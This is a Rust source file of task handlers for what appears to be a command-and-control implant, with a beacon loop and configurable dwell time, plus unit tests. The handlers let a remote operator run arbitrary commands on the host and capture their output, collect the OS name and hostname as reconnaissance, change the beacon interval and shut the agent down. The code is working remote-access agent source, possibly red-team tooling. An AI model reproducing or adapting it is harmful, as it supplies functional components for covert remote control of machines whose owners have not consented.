//! Built-in task handlers
//!
//! Confirmation and error strings match what deployed consumers of the
//! results topic already parse.

use super::{TaskError, TaskHandler};
use crate::protocol::HostFacts;
use crate::state::RuntimeState;
use async_trait::async_trait;
use std::sync::Arc;
use tokio::process::Command;

/// `ping` — liveness check, replies with a fixed pong.
pub struct PingTask;

#[async_trait]
impl TaskHandler for PingTask {
    fn name(&self) -> &'static str {
        "ping"
    }

    async fn execute(&self, _arguments: &str) -> Result<String, TaskError> {
        Ok("pong".to_string())
    }
}

/// `exec` — run a whitespace-split command line in a subprocess and capture
/// stdout. Only registered when explicitly enabled in configuration.
pub struct ExecTask;

#[async_trait]
impl TaskHandler for ExecTask {
    fn name(&self) -> &'static str {
        "exec"
    }

    async fn execute(&self, arguments: &str) -> Result<String, TaskError> {
        let mut parts = arguments.split_whitespace();
        let Some(program) = parts.next() else {
            return Err(TaskError::InvalidArgument(
                "empty command line".to_string(),
            ));
        };

        let output = Command::new(program)
            .args(parts)
            .kill_on_drop(true)
            .output()
            .await
            .map_err(|e| TaskError::CommandFailed(format!("{program}: {e}")))?;

        if !output.status.success() {
            let stderr = String::from_utf8_lossy(&output.stderr);
            return Err(TaskError::CommandFailed(format!(
                "{program} exited with {}: {}",
                output.status,
                stderr.trim()
            )));
        }

        Ok(String::from_utf8_lossy(&output.stdout).into_owned())
    }
}

/// `host-recon` — report OS name and hostname as a JSON document.
pub struct HostReconTask;

#[async_trait]
impl TaskHandler for HostReconTask {
    fn name(&self) -> &'static str {
        "host-recon"
    }

    async fn execute(&self, _arguments: &str) -> Result<String, TaskError> {
        let facts = HostFacts {
            os_info: std::env::consts::OS.to_string(),
            host_info: gethostname::gethostname().to_string_lossy().into_owned(),
        };

        serde_json::to_string(&facts).map_err(|e| TaskError::Internal(e.to_string()))
    }
}

/// `set-dwell-time` — update the shared dwell interval. The new value applies
/// from the beacon loop's next iteration.
pub struct SetDwellTimeTask {
    state: Arc<RuntimeState>,
}

impl SetDwellTimeTask {
    pub fn new(state: Arc<RuntimeState>) -> Self {
        Self { state }
    }
}

#[async_trait]
impl TaskHandler for SetDwellTimeTask {
    fn name(&self) -> &'static str {
        "set-dwell-time"
    }

    async fn execute(&self, arguments: &str) -> Result<String, TaskError> {
        let secs: u64 = arguments.trim().parse().map_err(|_| {
            TaskError::InvalidArgument(format!(
                "dwell time must be a positive integer, got '{arguments}'"
            ))
        })?;

        self.state
            .set_dwell_secs(secs)
            .map_err(|e| TaskError::InvalidArgument(e.to_string()))?;

        Ok(format!("Set dwell time to {secs} seconds."))
    }
}

/// `exit` — clear the running flag so the beacon loop stops and the agent
/// disconnects after its current iteration.
pub struct ExitTask {
    state: Arc<RuntimeState>,
}

impl ExitTask {
    pub fn new(state: Arc<RuntimeState>) -> Self {
        Self { state }
    }
}

#[async_trait]
impl TaskHandler for ExitTask {
    fn name(&self) -> &'static str {
        "exit"
    }

    async fn execute(&self, _arguments: &str) -> Result<String, TaskError> {
        self.state.request_exit();
        Ok("Successfully received exit, quitting...".to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn test_ping_returns_pong() {
        let result = PingTask.execute("ignored").await.unwrap();
        assert_eq!(result, "pong");
    }

    #[tokio::test]
    async fn test_host_recon_reports_facts() {
        let contents = HostReconTask.execute("").await.unwrap();
        let facts: HostFacts = serde_json::from_str(&contents).unwrap();
        assert_eq!(facts.os_info, std::env::consts::OS);
        assert!(!facts.host_info.is_empty());
    }

    #[tokio::test]
    async fn test_set_dwell_time_updates_state() {
        let state = Arc::new(RuntimeState::new(5));
        let task = SetDwellTimeTask::new(state.clone());

        let contents = task.execute("10").await.unwrap();
        assert_eq!(contents, "Set dwell time to 10 seconds.");
        assert_eq!(state.dwell_secs(), 10);
    }

    #[tokio::test]
    async fn test_set_dwell_time_rejects_bad_input() {
        let state = Arc::new(RuntimeState::new(5));
        let task = SetDwellTimeTask::new(state.clone());

        assert!(matches!(
            task.execute("soon").await,
            Err(TaskError::InvalidArgument(_))
        ));
        assert!(matches!(
            task.execute("0").await,
            Err(TaskError::InvalidArgument(_))
        ));
        assert!(matches!(
            task.execute("-3").await,
            Err(TaskError::InvalidArgument(_))
        ));
        assert_eq!(state.dwell_secs(), 5, "state must be untouched on failure");
    }

    #[tokio::test]
    async fn test_exit_clears_running_flag() {
        let state = Arc::new(RuntimeState::new(5));
        let task = ExitTask::new(state.clone());

        let contents = task.execute("").await.unwrap();
        assert_eq!(contents, "Successfully received exit, quitting...");
        assert!(!state.is_running());
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn test_exec_captures_stdout() {
        let contents = ExecTask.execute("echo beacon").await.unwrap();
        assert_eq!(contents.trim(), "beacon");
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn test_exec_failure_is_reported() {
        assert!(matches!(
            ExecTask.execute("/nonexistent-binary-for-test").await,
            Err(TaskError::CommandFailed(_))
        ));
        assert!(matches!(
            ExecTask.execute("false").await,
            Err(TaskError::CommandFailed(_))
        ));
        assert!(matches!(
            ExecTask.execute("   ").await,
            Err(TaskError::InvalidArgument(_))
        ));
    }
}
